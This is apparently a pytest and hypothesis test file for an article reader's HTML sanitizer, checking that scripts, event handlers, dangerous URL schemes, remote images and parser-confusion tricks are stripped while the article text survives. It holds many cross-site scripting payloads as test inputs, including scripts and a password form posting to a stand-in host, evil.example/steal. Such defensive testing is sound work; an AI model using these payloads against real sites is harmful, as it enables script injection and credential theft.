"""reader.render.sanitize: the allowlist every article's HTML passes before the reading pane
shows it. Nothing that runs code, loads from elsewhere or submits anything gets through, and
the text a reader came for stays."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reader.render.markdown_html import render_markdown
from reader.render.sanitize import ATTRIBUTES, TAGS, URL_SCHEMES, sanitize_html


class _Collector(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer reads the output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _parse(output: str) -> _Collector:
    collector = _Collector()
    collector.feed(output)
    collector.close()
    return collector


_SCHEME = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.\-]*)\s*:")


def executable_constructs(output: str) -> list[str]:
    """What in sanitized HTML could run code, load from outside, or submit: [] when none."""
    found = []
    for tag, attrs in _parse(output).tags:
        if tag not in TAGS:
            found.append(f"tag <{tag}>")
        allowed = ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"]
        for name, value in attrs.items():
            value = "" if value is None else value
            if name.startswith("on") or name == "style" or name not in allowed | {"rel"}:
                found.append(f"attribute {name} on <{tag}>")
            if name == "href":
                # Strip what browsers ignore inside a scheme (tabs, newlines, controls).
                compact = re.sub(r"[\x00-\x20]", "", value)
                scheme = _SCHEME.match(compact)
                if scheme and scheme.group(1).lower() not in URL_SCHEMES:
                    found.append(f"href scheme {scheme.group(1)!r}")
            if tag == "img" and name == "src":
                compact = re.sub(r"[\x00-\x20]", "", value)
                if _SCHEME.match(compact) or compact.startswith(("/", "\\")):
                    found.append(f"img src {value!r} is not relative")
    for raw in ("<script", "<iframe", "<object", "<embed", "<form", "<style", "<meta", "<base", "<svg", "<math"):
        # A literal "<script" in the output is a tag (text would be escaped as &lt;).
        if raw in output.lower():
            found.append(f"raw {raw}")
    return found


# Each kind of dangerous construct --------------------------------------------------------
@pytest.mark.parametrize(
    "dangerous, kept",
    [
        ("<p>before</p><script>alert(1)</script><p>after</p>", ["before", "after"]),
        ("<script src='https://evil.example/x.js'></script><p>text</p>", ["text"]),
        ("<style>body{display:none}</style><p>visible</p>", ["visible"]),
        ("<p>a</p><iframe src='https://evil.example'></iframe><p>b</p>", ["a", "b"]),
        ("<object data='x.swf'></object><embed src='x.swf'><p>c</p>", ["c"]),
        ("<meta http-equiv='refresh' content='0;url=https://evil.example'><p>d</p>", ["d"]),
        ("<base href='https://evil.example/'><a href='page.html'>e</a>", ["e"]),
        ("<svg onload='alert(1)'><circle/></svg><p>f</p>", ["f"]),
        ("<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>m</maction></math><p>g</p>", ["g"]),
        ("<link rel='stylesheet' href='https://evil.example/x.css'><p>h</p>", ["h"]),
    ],
)
def test_dangerous_elements_are_removed_and_the_text_around_stays(dangerous: str, kept: list[str]) -> None:
    out = sanitize_html(dangerous)
    assert executable_constructs(out) == [], out
    for word in kept:
        assert word in out
    assert "alert" not in out and "evil.example" not in out


def test_forms_and_their_controls_go_but_a_label_text_stays() -> None:
    out = sanitize_html("<form action='https://evil.example/steal' method='post'><input name='pw' type='password'>"
                        "<textarea>draft</textarea><select><option>one</option></select><button>送出</button></form>")
    assert executable_constructs(out) == []
    assert "<form" not in out and "<input" not in out and "<button" not in out and "evil.example" not in out
    assert "送出" in out


@pytest.mark.parametrize(
    "attribute",
    ['onclick="alert(1)"', 'onmouseover="alert(1)"', "onerror=alert(1)", 'ONLOAD="alert(1)"', 'onfocus="x()" autofocus',
     'style="background:url(javascript:alert(1))"', 'style="behavior:url(x.htc)"', 'formaction="javascript:x"'],
)
def test_event_handlers_and_styles_are_stripped_from_allowed_tags(attribute: str) -> None:
    out = sanitize_html(f'<p {attribute}>段落</p><img src="pics/a.png" {attribute}><a href="https://example.org" {attribute}>連結</a>')
    assert executable_constructs(out) == [], out
    assert "段落" in out and "連結" in out
    assert 'src="pics/a.png"' in out and 'href="https://example.org"' in out
    assert "alert" not in out and "url(" not in out


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
        "java&#x09;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd", "jar:file:x!/", "feed:javascript:alert(1)",
    ],
)
def test_links_to_code_and_local_files_lose_their_target(href: str) -> None:
    out = sanitize_html(f'<a href="{href}">點我</a>')
    assert executable_constructs(out) == [], out
    assert "點我" in out
    assert "href" not in out


@pytest.mark.parametrize("href", ["https://law.moj.gov.tw/", "http://example.org/a?b=1&c=2", "mailto:someone@example.org",
                                  "other.md", "../notes/other.md#section", "#fn-1"])
def test_ordinary_links_are_kept(href: str) -> None:
    out = sanitize_html(f'<a href="{html.escape(href)}">連結</a>')
    assert _parse(out).tags[0][1]["href"] == href
    assert 'rel="noopener noreferrer"' in out


@pytest.mark.parametrize(
    "src",
    ["data:image/png;base64,iVBORw0KGgo=", "data:image/svg+xml,<svg onload=alert(1)>", "https://tracker.example/pixel.gif",
     "//tracker.example/pixel.gif", "/etc/passwd", "\\\\server\\share\\x.png", "file:///home/me/x.png", "C:/Users/x.png",
     "javascript:alert(1)", " https://tracker.example/x.gif", "&#x2F;&#x2F;tracker.example/x.gif", "HTTPS://tracker.example/x"],
)
def test_images_keep_only_relative_sources(src: str) -> None:
    out = sanitize_html(f'<img src="{src}" alt="圖一">')
    assert executable_constructs(out) == [], out
    assert "src" not in out
    assert 'alt="圖一"' in out  # the picture's description still reads


@pytest.mark.parametrize("src", ["pics/figure-1.png", "article_files/a.jpg", "圖片/一.png"])
def test_relative_images_are_kept(src: str) -> None:
    out = sanitize_html(f'<img src="{src}" alt="x" width="10" height="20">')
    tag, attrs = _parse(out).tags[0]
    assert tag == "img" and attrs["src"] == src and attrs["width"] == "10" and attrs["height"] == "20"


def test_class_names_with_punctuation_are_dropped() -> None:
    """Classes style footnotes and highlights; one carrying CSS or quotes is not ours."""
    assert 'class="footnote-ref"' in sanitize_html('<sup class="footnote-ref">1</sup>')
    assert 'class="a b-c"' in sanitize_html('<span class="a b-c">x</span>')
    for value in ("a;color:red", 'a" onclick="x', "x{}", "a:hover"):
        out = sanitize_html(f'<span class="{html.escape(value)}">x</span>')
        assert out == "<span>x</span>", value


# Nesting and parser tricks ---------------------------------------------------------------
@pytest.mark.parametrize(
    "tricky",
    [
        "<scr<script>ipt>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>",
        "<div><p><script>alert(1)</script></p></div>",
        "<table><tr><td><iframe src=x></iframe></td></tr></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href='https://ok.example'><img src=x onerror=alert(1)></a>",
        "<img src=\"x\" onerror\n=alert(1)>",
        "<img/src='x'/onerror=alert(1)>",
        "<p>unclosed <b>bold <script>alert(1)",
        "<!--<script>alert(1)</script>-->text",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea><script>alert(1)</script></textarea>",
        "<template><script>alert(1)</script></template>",
        "<p title='</p><script>alert(1)</script>'>t</p>",
    ],
)
def test_nested_and_malformed_markup_never_yields_a_script(tricky: str) -> None:
    out = sanitize_html(tricky)
    assert executable_constructs(out) == [], out
    # Whatever of the trick survives is text (escaped), not markup.
    assert not re.search(r"<\s*script", out, re.IGNORECASE)
    assert "onerror" not in "".join(f"{k}" for _, attrs in _parse(out).tags for k in attrs)


def test_entities_stay_text_and_are_not_decoded_into_markup() -> None:
    out = sanitize_html("<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; 條&#x6587;</p>")
    assert executable_constructs(out) == []
    assert "<script" not in out.lower()
    text = "".join(_parse(out).text)
    assert text == "<script>alert(1)</script> &lt;b&gt; 條文"  # what the reader sees, unchanged


def test_comments_are_removed() -> None:
    out = sanitize_html("<p>a<!-- [if IE]><script>alert(1)</script><![endif] -->b</p>")
    assert "<!--" not in out and "alert" not in out
    assert "a" in out and "b" in out


def test_ordinary_article_markup_passes_unchanged_in_meaning() -> None:
    source = ("<h2 id=\"s1\">第一節</h2><p>依<strong>個人資料保護法</strong>第<em>5</em>條，<a href=\"#fn1\">見註</a>。</p>"
              "<blockquote><p>引文</p></blockquote><ol start=\"3\"><li>三</li></ol>"
              "<table><thead><tr><th>條</th></tr></thead><tbody><tr><td colspan=\"2\">內容</td></tr></tbody></table>"
              "<pre><code>x &lt; y</code></pre>")
    out = sanitize_html(source)
    assert executable_constructs(out) == []
    tags = [tag for tag, _ in _parse(out).tags]
    assert tags == ["h2", "p", "strong", "em", "a", "blockquote", "p", "ol", "li", "table", "thead", "tr", "th", "tbody", "tr", "td", "pre", "code"]
    assert "".join(_parse(out).text) == "".join(_parse(source).text)
    assert 'id="s1"' in out and 'start="3"' in out and 'colspan="2"' in out


def test_markdown_links_and_raw_html_in_an_article_are_sanitized() -> None:
    """The real path: an article's Markdown with raw HTML and hostile link targets."""
    body = ("# 標題\n\n[點我](javascript:alert(1)) 與 ![圖](data:image/png;base64,AAAA)\n\n"
            "<div onclick=\"alert(2)\">區塊</div>\n\n<script>alert(3)</script>\n\n"
            "[正常](https://example.org) ![本地](pics/a.png)\n")
    rendered = render_markdown(body)
    assert executable_constructs(rendered.html) == [], rendered.html
    assert "alert" not in rendered.html
    for text in ("標題", "點我", "區塊", "正常"):
        assert text in rendered.html
    assert 'href="https://example.org"' in rendered.html and 'src="pics/a.png"' in rendered.html


# Property: whatever the input, nothing executable comes out --------------------------------
_TAG_NAMES = sorted(TAGS) + ["script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math",
                              "meta", "base", "link", "textarea", "noscript", "template", "xmp", "frame", "frameset", "applet",
                              "img", "a", "SCRIPT", "ScRiPt", "scr", "video", "audio", "source", "details", "marquee"]
_ATTR_NAMES = ["href", "src", "onclick", "onerror", "ONLOAD", "style", "class", "id", "title", "formaction", "action",
               "srcdoc", "xlink:href", "background", "poster", "data", "lang", "alt", "width", "colspan", "on", "onx"]
_VALUES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:x", "&#106;avascript:x", "data:text/html,<script>x</script>",
           "vbscript:x", "https://ok.example/", "pics/a.png", "//evil.example/x", "/etc/passwd", "\\\\srv\\x", "x\" onclick=\"y",
           "' onerror='x", "</p><script>x</script>", "expression(alert(1))", "a b-c", "mailto:a@b.c", "#top", "", "&quot;><script>"]


@st.composite
def hostile_html(draw) -> str:
    pieces = []
    for _ in range(draw(st.integers(1, 8))):
        kind = draw(st.sampled_from(["open", "close", "text", "entity", "comment", "raw"]))
        if kind == "open":
            tag = draw(st.sampled_from(_TAG_NAMES))
            attrs = []
            for _ in range(draw(st.integers(0, 3))):
                name = draw(st.sampled_from(_ATTR_NAMES))
                value = draw(st.sampled_from(_VALUES))
                quote = draw(st.sampled_from(['"', "'", ""]))
                if not quote and (" " in value or not value):
                    quote = '"'
                attrs.append(f"{name}={quote}{value}{quote}")
            slash = draw(st.sampled_from(["", "/"]))
            pieces.append(f"<{tag}{' ' if attrs else ''}{' '.join(attrs)}{slash}>")
        elif kind == "close":
            pieces.append(f"</{draw(st.sampled_from(_TAG_NAMES))}>")
        elif kind == "text":
            pieces.append(draw(st.text(alphabet=st.sampled_from(list("條文ab <>&\"'=/;:")), max_size=12)))
        elif kind == "entity":
            pieces.append(draw(st.sampled_from(["&lt;", "&gt;", "&amp;", "&#60;", "&#x3C;script&#x3E;", "&colon;", "&Tab;", "&#0;", "&lt"])))
        elif kind == "comment":
            pieces.append(draw(st.sampled_from(["<!--", "-->", "<!-- x -->", "<!", "<?xml x?>", "<![CDATA[", "]]>"])))
        else:
            pieces.append(draw(st.sampled_from(["<", ">", "</", "<scr", "ipt>", "<img", " src=x", " onerror=alert(1)", "\x00"])))
    return "".join(pieces)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_html())
def test_no_input_yields_an_executable_construct(source: str) -> None:
    out = sanitize_html(source)
    assert executable_constructs(out) == [], (source, out)
    assert sanitize_html(out) == out or executable_constructs(sanitize_html(out)) == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_arbitrary_text_never_yields_an_executable_construct(source: str) -> None:
    out = sanitize_html(source)
    assert executable_constructs(out) == [], (source, out)
